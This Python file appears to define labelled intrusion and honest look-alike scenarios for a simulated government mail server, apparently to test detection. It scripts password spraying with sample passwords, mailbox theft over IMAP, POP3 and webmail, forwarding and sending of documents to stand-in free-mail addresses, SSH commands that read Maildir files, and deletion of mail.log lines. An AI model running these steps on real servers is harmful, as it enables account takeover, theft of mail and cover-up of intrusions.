"""The scenarios: a table at the end, one function for each above it.

A function gets the world and yields the steps of the intruder (or of the honest
look-alike): (moment in Paris time, activity).  They run amid the day's traffic.
"""

import re
import time
from collections import namedtuple

from tower import audit, clients, letters
from tower.clock import utc
from tower.people import ADMIN, OFFICE, PARTNERS
from tower.truth import STORE, folders_of
from tower.world import PHONE

DAY = "2026-03-17"
STRANGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
FREE = "boite-libre.example"


def today(clock_time):
    return utc(f"{DAY} {clock_time}")


# --- what intruders do --------------------------------------------------------


def guess(world, source, person, password):
    """One try over IMAP; true if the password was right."""
    world.truth.act(source)
    try:
        imap = clients.Imap(source, person.address, password)
    except clients.Refused:
        return False
    world.truth.inside(person.address, source)
    imap.logout()
    return True


def read_imap(world, source, person, choose=None):
    """Sign in and fetch whole messages: all of all folders, or those chosen."""
    imap = clients.Imap(source, person.address, person.password)
    world.truth.inside(person.address, source)
    kept = []
    for folder in imap.folders():
        uids = imap.enter(folder)
        if choose:
            imap.headers(uids)
            world.truth.listed(person.address, folder, uids)
            uids = choose(imap, folder, uids)
        for start in range(0, len(uids), 10):
            for uid, raw in imap.bodies(uids[start:start + 10]):
                world.truth.opened(person.address, folder, uid, "imap-fetch")
                kept.append(raw)
    imap.logout()
    return kept


def spray_imap(world):
    source, hit = "203.0.113.147", world.people["h.bernard"]
    names = ["c.martin", "n.benali", "l.dubois", "s.thomas", "a.robert", "j.richard", "h.bernard",
             "v.moreau", "i.simon", "o.diallo", "t.weber", "m.vidal"]

    def spray():
        for password in ("Interieur2026", "Printemps2026!"):
            for name in names:
                guess(world, source, world.people[name], password)
                world.clock.skip(world.rng.randrange(14, 33))

    yield today("10:12"), spray
    yield today("10:41"), lambda: read_imap(world, source, hit)


def stolen_password_webmail(world):
    source, victim = "203.0.113.147", world.people["c.martin"]
    target = f"copie.martin@{FREE}"

    def visit():
        mail = world.browser(victim, source, STRANGE)
        world.truth.act(source)
        mail.sign_in(victim.address, victim.password)
        world.truth.inside(victim.address, source)
        uids = mail.folder("INBOX")
        world.truth.listed(victim.address, "INBOX", uids, "webmail-list")
        downloads = 5
        for uid in world.rng.sample(uids, 12):
            world.clock.skip(world.rng.randrange(6, 26))
            page = mail.show(uid)
            world.truth.opened(victim.address, "INBOX", uid, "webmail-show")
            parts = mail.parts(page)
            if parts and downloads:
                world.clock.skip(world.rng.randrange(3, 9))
                mail.attachment(uid, parts[0])
                world.truth.opened(victim.address, "INBOX", uid, "webmail-download", parts[0], "attachment")
                downloads -= 1
        world.clock.skip(11)
        mail.redirect_all(".", target)
        world.truth.note("changes", kind="forwarding-rule", account=victim.address, target=target)
        world.clock.skip(12)
        mail.sign_out()
        world.truth.act()

    yield today("13:05"), visit
    for moment in ("13:41", "14:20", "15:07", "16:33", "17:48"):
        yield today(moment), lambda: world.inbound(victim)


def spray_webmail(world):
    """Passwords tried at the webmail's sign-in; the one that opens it is used there."""
    source, hit = "203.0.113.151", world.people["h.bernard"]
    names = ["c.martin", "n.benali", "l.dubois", "s.thomas", "a.robert", "j.richard", "v.moreau", "h.bernard",
             "i.simon", "o.diallo", "t.weber", "m.vidal"]

    def guess_there(name, password):
        world.truth.act(source)
        try:
            mail = world.browser(world.people[name], source, STRANGE)
            mail.sign_in(world.people[name].address, password)
        except clients.Refused:
            return None
        world.truth.inside(world.people[name].address, source)
        return mail

    def spray():
        for password in ("Interieur2026", "Printemps2026!"):
            for name in names:
                mail = guess_there(name, password)
                if mail:
                    return look_around(mail)
                world.clock.skip(world.rng.randrange(14, 33))

    def look_around(mail):
        for folder in ("INBOX", "Archive"):
            uids = mail.folder(folder)
            world.truth.listed(hit.address, folder, uids, "webmail-list")
            for uid in uids[:9]:
                world.clock.skip(world.rng.randrange(5, 15))
                mail.show(uid, folder)
                world.truth.opened(hit.address, folder, uid, "webmail-show")

    yield today("10:12"), spray


def send_on(world, victim, target, mail, uid, folder="INBOX"):
    """Forward a message by the webmail's own button; what arrives outside is the truth of it."""
    known = len(world.internet.taken)
    mail.forward(uid, target, folder)
    world.host.settle()
    for taken in [m for m in world.internet.taken[known:] if target in m["to"]]:
        world.truth.note("sent", account=victim.address, to=[target], message_id=taken["message_id"],
                         bytes=taken["bytes"])


def take_folder_and_send(world):
    """A whole folder as one archive, then documents sent on, all by the webmail's own buttons."""
    source, victim = "203.0.113.229", world.people["p.durand"]
    target = f"depot.2041@{FREE}"

    def visit():
        world.truth.act(source)
        mail = world.browser(victim, source, STRANGE)
        mail.sign_in(victim.address, victim.password)
        world.truth.inside(victim.address, source)
        uids = mail.folder("INBOX")
        world.truth.listed(victim.address, "INBOX", uids, "webmail-list")
        world.clock.skip(21)
        mail.export_folder("INBOX")
        for uid in sorted(uids):
            world.truth.opened(victim.address, "INBOX", uid, "webmail-export")
        documents = mail.folder("Projets") or mail.folder("Archive")
        folder = "Projets" if mail.folder("Projets") else "Archive"
        world.truth.listed(victim.address, folder, documents, "webmail-list")
        for uid in documents[:2]:
            world.clock.skip(14)
            mail.show(uid, folder)
            world.truth.opened(victim.address, folder, uid, "webmail-show")
            send_on(world, victim, target, mail, uid, folder)
        world.clock.skip(12)
        mail.sign_out()
        world.truth.act()

    yield today("18:52"), visit


def stolen_password_horde(world):
    """Messages chosen in Horde's dynamic view, some attachments, two messages forwarded."""
    source, victim = "203.0.113.147", world.people["c.martin"]
    target = f"copie.martin@{FREE}"

    def handed_over(mail, folder):
        for uid in mail.handed:                 # Horde hands over the next unread message as well
            world.truth.opened(victim.address, folder, uid, "webmail-show")

    def visit():
        world.truth.act(source)
        mail = world.browser(victim, source, STRANGE)
        mail.sign_in(victim.address, victim.password)
        world.truth.inside(victim.address, source)
        uids = mail.folder("INBOX")
        world.truth.listed(victim.address, "INBOX", uids, "webmail-list")
        downloads, documents = 5, []
        for uid in world.rng.sample(uids, 12):
            world.clock.skip(world.rng.randrange(6, 26))
            page = mail.show(uid)
            handed_over(mail, "INBOX")
            parts = mail.parts(page)
            documents += [uid] if parts else []
            if parts and downloads:
                world.clock.skip(world.rng.randrange(3, 9))
                mail.attachment(uid, parts[0])
                world.truth.opened(victim.address, "INBOX", uid, "webmail-download", parts[0], "attachment")
                downloads -= 1
        for uid in documents[:4]:
            world.clock.skip(17)
            send_on(world, victim, target, mail, uid)
        world.clock.skip(12)
        mail.sign_out()
        world.truth.act()

    yield today("13:05"), visit


def pull_folders(world):
    """Every folder taken, one after the other, by the webmail's own menu."""
    source, victim = "203.0.113.229", world.people["p.durand"]

    def visit():
        world.truth.act(source)
        mail = world.browser(victim, source, STRANGE)
        mail.sign_in(victim.address, victim.password)
        world.truth.inside(victim.address, source)
        for folder in ("INBOX", "Sent", "Archive", "Projets"):
            uids = mail.folder(folder)
            world.truth.listed(victim.address, folder, uids, "webmail-list")
            world.clock.skip(world.rng.randrange(8, 20))
            if uids:
                mail.export_folder(folder)
            for uid in sorted(uids):
                world.truth.opened(victim.address, folder, uid, "webmail-export")
        world.clock.skip(12)
        mail.sign_out()
        world.truth.act()

    yield today("18:52"), visit


def low_and_slow(world):
    sources = ["203.0.113.150", "203.0.113.171", "203.0.113.199", "203.0.113.212", "203.0.113.228",
               "203.0.113.240", "2001:db8:bad::51"]
    weak = {"y.kerbrat": "2026-03-15 03:18", "s.fournier": "2026-03-16 22:47", "f.traore": "2026-03-17 11:26"}
    others = ["c.martin", "l.dubois", "p.durand", "c.leroy", "m.laurent", "o.diallo", "a.roux", "t.weber",
              "m.vidal"]
    common = ["Azerty123", "Bonjour2026", "Police2026", "France2026!", "Motdepasse1", "Hiver2025",
              "Paris2026", "Liberte1"]
    first = utc("2026-03-12 00:40")
    names = [*weak, *others]
    for index in range(96):
        moment = first + (utc("2026-03-17 20:00") - first) * ((index + index * 37 % 89 / 120) / 96)
        name = names[index % len(names)]
        if name in weak and moment >= utc(weak[name]):
            continue
        yield moment, lambda i=index, n=name: guess(
            world, sources[(i * 3 + i // 7) % len(sources)], world.people[n], common[i // len(names)])
    for index, (name, moment) in enumerate(weak.items()):
        yield utc(moment), lambda i=index, n=name: read_few(world, sources[2 * i], world.people[n])


def read_few(world, source, person, count=4):
    def some(imap, folder, uids):
        return sorted(world.rng.sample(uids, min(count, len(uids)))) if folder == "INBOX" else []
    world.truth.act(source)
    return read_imap(world, source, person, some)


def script_attack(world):
    victim = world.people["e.petit"]
    lure = []

    def bait():
        domain = "poste-gratuite.example"
        letter = letters.letter(world.rng, world.clock.now(), f"notifications@{domain}", "Service colis",
                                [victim.address], subject="Votre colis est en attente", attach=[])
        clients.relay(PARTNERS[domain], f"mx.{domain}", None, [([victim.address], letter)])
        lure.append(letter["Message-ID"])

    def session():
        mail = world.browser(victim, victim.home)
        mail.sign_in(victim.address, victim.password)
        uids = mail.folder("INBOX")
        world.clock.skip(14)
        mail.preview(uids[1])
        world.clock.skip(33)
        mail.show(uids[0])
        time.sleep(1.2)
        world.truth.inside(victim.address, victim.home)
        world.truth.head["trigger"] = {"account": victim.address, "folder": "INBOX", "uid": uids[0],
                                       "message_id": lure[0]}
        run_script(world, mail, victim)
        world.clock.skip(47)
        mail.preview(uids[2])
        world.clock.skip(20)
        mail.sign_out()

    yield today("14:22"), bait
    yield today("15:31"), session


def run_script(world, mail, victim):
    """What the hidden script does in the owner's own session: everything, evenly."""
    for folder in ("INBOX", "Sent", "Archive", "Projets"):
        uids = mail.folder(folder)
        world.truth.listed(victim.address, folder, uids, "webmail-list")
        for uid in sorted(uids):
            time.sleep(0.12)
            page = mail.show(uid, folder)
            world.truth.opened(victim.address, folder, uid, "webmail-show")
            for part in mail.parts(page):
                time.sleep(0.12)
                mail.attachment(uid, part, folder)
                world.truth.opened(victim.address, folder, uid, "webmail-download", part, "attachment")
    mail.contacts_export()
    world.truth.note("exports", kind="address-book", account=victim.address)


def pop3_pull(world):
    source, victim = "203.0.113.205", world.people["n.benali"]

    def pull():
        world.truth.act(source)
        pop = clients.Pop(source, victim.address, victim.password)
        world.truth.inside(victim.address, source)
        for line in pop.uidl()[1]:
            number, unique = line.decode().split()
            pop.retr(int(number))
            world.truth.opened(victim.address, "INBOX", uid_of(unique), "pop3-retr")
        pop.quit()

    yield today("04:37"), pull


def uid_of(unique):
    """The UID in what POP3 calls a message: Dovecot's %08Xu%08Xv, Cyrus' UIDVALIDITY.UID, Courier's UIDn-m."""
    _, dot, uid = unique.partition(".")
    courier = re.match(r"UID(\d+)-", unique)
    return int(courier[1]) if courier else int(uid) if dot else int(unique[:8], 16)


def whole(answers):
    """Untagged answers with their literals joined in: imaplib cuts them there."""
    line = b""
    for piece in answers:
        line += b"".join(piece) if isinstance(piece, tuple) else piece
        if not isinstance(piece, tuple):
            yield line
            line = b""


def send_exfil(world):
    source, victim = "203.0.113.229", world.people["p.durand"]
    target = f"depot.2041@{FREE}"
    loot = []

    def with_documents(imap, folder, uids):
        if not uids or folder not in ("INBOX", "Projets"):
            return []
        shapes = whole(imap.uid("FETCH", clients.spread(uids), "(UID BODYSTRUCTURE)")[1])
        rich = [int(re.search(rb"UID (\d+)", line)[1]) for line in shapes if b'"attachment"' in line.lower()]
        return rich[:6]

    def read():
        world.truth.act(source)
        loot.extend(read_imap(world, source, victim, with_documents))

    def send():
        for start in range(0, len(loot), 3):
            message = letters.letter(world.rng, world.clock.now(), victim.address, victim.name, [target],
                                     subject="docs", attach=[])
            for raw in loot[start:start + 3]:
                for name, kind, data in clients.documents(raw):
                    message.add_attachment(data, *kind.split("/"), filename=name)
            clients.submit(source, victim.address, victim.password, message, [target], "[10.8.0.6]")
            world.truth.note("sent", account=victim.address, to=[target], message_id=message["Message-ID"],
                             bytes=len(bytes(message)))
            world.clock.skip(world.rng.randrange(30, 80))

    yield today("18:52"), read
    yield today("18:58"), send


def server_shell(world):
    source, guest = "203.0.113.233", world.people["m.girard"]
    tarred, catted = ["a.roux", "l.lefevre"], "k.haddad"
    store = world.host.path(STORE)

    def ssh(command):
        return world.ssh(source, "operateur", "Maintenance!2024", command)

    def visit():
        world.truth.act(source)
        world.truth.entry |= {"account": "operateur", "source_ip": source, "time": world.truth.act()}
        ssh("id; uname -a; last -5; sudo ls -l /var/vmail")
        world.clock.skip(41)
        with audit.Audit(world.host):
            world.truth.act()
            ssh(f"sudo ls -R {STORE} | head -40")
            time.sleep(1.5)
            for name in tarred:
                ssh(f"sudo tar -C {STORE} -czf - {name}")
                for folder, uid in messages_of(store / name):
                    world.truth.opened(f"{name}@interieur.example", folder, uid, "file-read", kind="file")
                time.sleep(0.8)
            for uid in inbox_of(store / catted)[:3]:
                ssh(f"sudo cat '{STORE}/{catted}/Maildir/{message_file(store / catted, uid)}'")
                world.truth.opened(f"{catted}@interieur.example", "INBOX", uid, "file-read", kind="file")
            for name in [*tarred, catted]:
                world.truth.accounts.append(f"{name}@interieur.example")

    def inner_session():
        """A password found in that mail, used on the host itself."""
        world.truth.act(source)
        uids = inbox_of(store / guest.login)[-3:]
        script = (f"exec 3<>/dev/tcp/127.0.0.1/143; "
                  f"printf 'a login {guest.address} {guest.password}\\r\\nb examine INBOX\\r\\n"
                  f"c uid fetch {clients.spread(uids)} (BODY.PEEK[])\\r\\nd logout\\r\\n' >&3; cat <&3")
        answer = ssh(f"bash -c \"{script}\"").stdout
        if answer.count("BODY[]") != len(uids):
            raise RuntimeError("the session on the host failed: " + answer[:300])
        world.truth.accounts.append(guest.address)
        for uid in uids:
            world.truth.opened(guest.address, "INBOX", uid, "imap-fetch")

    yield today("12:33"), visit
    yield today("13:11"), inner_session


def messages_of(home):
    """(folder, UID) of each message, from Dovecot's own lists."""
    for folder, path in folders_of(home / "Maildir"):
        for line in (path / "dovecot-uidlist").read_text().splitlines()[1:]:
            yield folder, int(line.split()[0])


def inbox_of(home):
    return [uid for folder, uid in messages_of(home) if folder == "INBOX"]


def message_file(home, uid):
    """Where a message of the INBOX lies, below its Maildir."""
    maildir = home / "Maildir"
    lines = (maildir / "dovecot-uidlist").read_text().splitlines()[1:]
    base = next(line for line in lines if int(line.split()[0]) == uid).split(":")[1]
    return next(f"{sub}/{file.name}" for sub in ("cur", "new") for file in (maildir / sub).iterdir()
                if file.name.split(":")[0] == base)


def cut_logs(recording, truth):
    """The intruder covers the traces: minutes of mail.log, and one Login line."""
    first, last = "2026-03-17T12:30:00", "2026-03-17T12:56:00"
    lines = recording["mail.log"].splitlines(keepends=True)
    kept = [line for line in lines if not first <= line[:19] < last]
    hidden = next(line for line in kept if line.startswith("2026-03-17T13:11") and "imap-login: Login:" in line)
    kept.remove(hidden)
    recording["mail.log"] = "".join(kept)
    truth.note("tampered", file="mail.log", **{"from": first + "+01:00", "to": last + "+01:00"},
               what=f"{len(lines) - len(kept) - 1} lines deleted")
    truth.note("tampered", file="mail.log", **{"from": hidden[:32], "to": hidden[:32]},
               what="the Login line of one IMAP session from 127.0.0.1 deleted")


# --- what honest people do, and must be left in peace for ----------------------


def new_phone(world):
    person = world.people["j.richard"]
    yield today("19:24"), lambda: world.sync_everything(person, person.home, "Nouveau mobile")
    yield today("20:50"), lambda: world.check_mail(person, person.home, PHONE, "Nouveau mobile")


def traveller(world):
    person, hotel = world.people["l.dubois"], "198.51.100.203"
    yield today("09:14"), lambda: world.check_mail(person, hotel, PHONE, PHONE)
    yield today("12:40"), lambda: world.webmail(person, hotel, reads=5, fetches=1, sends=True)
    yield today("17:05"), lambda: world.check_mail(person, hotel, PHONE, PHONE)
    yield today("21:30"), lambda: world.webmail(person, hotel, reads=3, fetches=1)


def mistyped(world):
    person = world.people["c.leroy"]

    def morning():
        world.mistype(person, person.office, 4)
        world.check_mail(person, person.office)

    def evening():
        world.mistype(person, person.home, 3, "webmail")
        world.webmail(person, person.home)

    yield today("08:31"), morning
    yield today("20:12"), evening


def newsletter(world):
    person = world.people["e.rossi"]

    def send():
        to = [f"abonne{n:02}@{list(PARTNERS)[n % len(PARTNERS)]}" for n in range(80)]
        message = letters.letter(world.rng, world.clock.now(), person.address, person.name,
                                 ["lettre@interieur.example"], subject="La lettre du ministère, mars 2026",
                                 attach=[("Lettre.pdf", 48_000)])
        clients.submit(person.office, person.address, person.password, message, to)
        imap = clients.Imap(person.office, person.address, person.password, "Thunderbird")
        imap.append("Sent", r"(\Seen)", None, bytes(message))
        imap.logout()

    yield today("10:30"), send


def holiday(world):
    """The owner, from home as ever, has mail go on to a colleague's and to a private address."""
    person = world.people["s.thomas"] if "webmail" in world.people["s.thomas"].habits else world.people["c.martin"]

    def evening():
        mail = world.browser(person, person.home)
        mail.sign_in(person.address, person.password)
        mail.folder()
        world.clock.skip(40)
        mail.redirect_all("vacances", f"{person.login}@poste-gratuite.example")
        world.clock.skip(15)
        mail.sign_out()

    yield today("12:20"), evening
    for moment in ("13:41", "15:07", "17:48"):
        yield today(moment), lambda: world.inbound(person)


def keep_a_copy(world):
    """The owner, from home as ever, saves a folder as an archive."""
    person = world.people["c.martin"]

    def evening():
        mail = world.browser(person, person.home)
        mail.sign_in(person.address, person.password)
        mail.folder("Archive")
        world.clock.skip(25)
        mail.export_folder("Archive")
        world.clock.skip(15)
        mail.sign_out()

    yield today("19:40"), evening


def office_nat(world):
    crowd = [p for p in world.people.values() if "desktop" in p.habits][:15]

    def arrive():
        for index, person in enumerate(crowd):
            if index % 4 == 1:
                world.mistype(person, OFFICE, 1 + index % 2)
            world.check_mail(person, OFFICE)
            world.clock.skip(world.rng.randrange(15, 70))

    yield today("08:55"), arrive


def migration(world):
    movers = list(world.people.values())[9:17]

    def move():
        for person in movers:
            if "pop3" not in person.habits:
                world.sync_everything(person, ADMIN, "imapsync")
                world.clock.skip(30)

    yield today("21:00"), move


# --- the table -------------------------------------------------------------------

Scenario = namedtuple("Scenario", "name method steps about early after levels tweak host",
                      defaults=(False, None, ("stock", "rich"), None, "postfix"))

SCENARIOS = [
    # name, way in (None: honest), steps, about
    Scenario("spray-imap", "password-spray", spray_imap,
             "two passwords on twelve accounts, one hit, the whole mailbox read over IMAP"),
    Scenario("stolen-password-webmail", "stolen-password", stolen_password_webmail,
             "a right password in webmail, twelve messages, some attachments, a forwarding filter"),
    Scenario("stolen-password-webmail-nologins", "stolen-password", stolen_password_webmail,
             "the same, with Roundcube's sign-in log off as shipped", levels=("stock",), tweak="nologins"),
    Scenario("low-and-slow", "password-spray", low_and_slow,
             "twelve accounts guessed at for six days from seven addresses, three hits", early=True),
    Scenario("script-attack", "webmail-session-abuse", script_attack,
             "a script in the owner's webmail session takes everything after one message was opened"),
    Scenario("pop3-pull", "stolen-password", pop3_pull,
             "POP3 retrieves a whole mailbox and deletes nothing"),
    Scenario("send-exfil", "stolen-password", send_exfil,
             "a few messages read, their documents sent to free mail, no Sent copy"),
    Scenario("server-shell", "server-shell", server_shell,
             "a shell on the host: Maildir files read, log lines cut", after=cut_logs),
    Scenario("new-phone", None, new_phone, "honest: a new phone copies the mailbox at home"),
    Scenario("traveller", None, traveller, "honest: the owner reads mail from abroad"),
    Scenario("mistyped", None, mistyped, "honest: the owner fails four times, then succeeds"),
    Scenario("newsletter", None, newsletter, "honest: one message to eighty recipients"),
    Scenario("office-nat", None, office_nat, "honest: fifteen people behind one address, some mistype"),
    Scenario("migration", None, migration, "honest: the administrator copies mailboxes with imapsync"),
    # On a host with Exim, Cyrus, and HAProxy before Apache.
    Scenario("exim-spray-imap", "password-spray", spray_imap,
             "the same spray, met by Cyrus", host="exim"),
    Scenario("exim-pop3-pull", "stolen-password", pop3_pull,
             "POP3 retrieves a whole mailbox of Cyrus", host="exim"),
    Scenario("exim-send-exfil", "stolen-password", send_exfil,
             "documents read over IMAP and sent to free mail through Exim", host="exim"),
    Scenario("exim-script-attack", "webmail-session-abuse", script_attack,
             "the same script, seen by HAProxy and Apache", host="exim"),
    Scenario("exim-new-phone", None, new_phone, "honest: a new phone copies a mailbox of Cyrus", host="exim"),
    Scenario("exim-mistyped", None, mistyped, "honest: the owner fails, Cyrus refuses, then succeeds", host="exim"),
    Scenario("exim-office-nat", None, office_nat, "honest: fifteen people of Cyrus behind one address", host="exim"),
    # On a host with OpenSMTPD, Dovecot 2.4, and SOGo behind nginx.
    Scenario("sogo-stolen-password-webmail", "stolen-password", stolen_password_webmail,
             "a right password in SOGo, twelve messages, some attachments, a forward to outside",
             host="sogo"),
    Scenario("sogo-spray-webmail", "password-spray", spray_webmail,
             "two passwords on twelve accounts at SOGo's sign-in, one hit, messages read there",
             levels=("stock",), host="sogo"),
    Scenario("sogo-export-and-send", "stolen-password", take_folder_and_send,
             "a folder exported as one archive, documents forwarded to free mail through SOGo",
             host="sogo"),
    Scenario("sogo-script-attack", "webmail-session-abuse", script_attack,
             "the same script in a session of SOGo", levels=("stock",), host="sogo"),
    Scenario("sogo-spray-imap", "password-spray", spray_imap,
             "the same spray, met by Dovecot 2.4", levels=("stock",), host="sogo"),
    Scenario("sogo-traveller", None, traveller, "honest: the owner reads and sends in SOGo from abroad",
             host="sogo"),
    Scenario("sogo-mistyped", None, mistyped, "honest: the owner fails four times, then succeeds, in SOGo too",
             levels=("stock",), host="sogo"),
    Scenario("sogo-holiday", None, holiday, "honest: the owner forwards mail from home", levels=("stock",), host="sogo"),
    Scenario("sogo-keep-a-copy", None, keep_a_copy, "honest: the owner exports a folder at home",
             levels=("stock",), host="sogo"),
    # On a host with Postfix, Dovecot, and Horde on Apache.
    Scenario("horde-stolen-password", "stolen-password", stolen_password_horde,
             "a right password in Horde, a dozen messages, some attachments, documents forwarded", host="horde"),
    Scenario("horde-pull", "stolen-password", pull_folders,
             "whole folders taken out of Horde, one file each", host="horde"),
    Scenario("horde-traveller", None, traveller, "honest: the owner reads and sends in Horde from abroad", host="horde"),
    Scenario("horde-keep-a-copy", None, keep_a_copy, "honest: the owner takes a folder out of Horde at home",
             levels=("stock",), host="horde"),
    # On a host with sendmail and Courier; it has no webmail.
    Scenario("courier-spray-imap", "password-spray", spray_imap,
             "the same spray, met by Courier", levels=("stock",), host="courier"),
    Scenario("courier-pop3-pull", "stolen-password", pop3_pull,
             "POP3 retrieves a whole mailbox of Courier", levels=("stock",), host="courier"),
    Scenario("courier-send-exfil", "stolen-password", send_exfil,
             "documents read over IMAP and sent to free mail through sendmail", levels=("stock",), host="courier"),
    Scenario("courier-new-phone", None, new_phone, "honest: a new phone copies a mailbox of Courier",
             levels=("stock",), host="courier"),
    Scenario("courier-office-nat", None, office_nat, "honest: fifteen people of Courier behind one address",
             levels=("stock",), host="courier"),
    Scenario("courier-mistyped", None, mistyped, "honest: the owner fails, Courier refuses, then succeeds",
             levels=("stock",), host="courier"),
]
